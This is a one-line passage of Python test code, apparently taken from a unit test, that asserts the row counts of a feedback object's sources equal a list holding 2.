    assert [source.rows for source in feedback.sources] == [2]
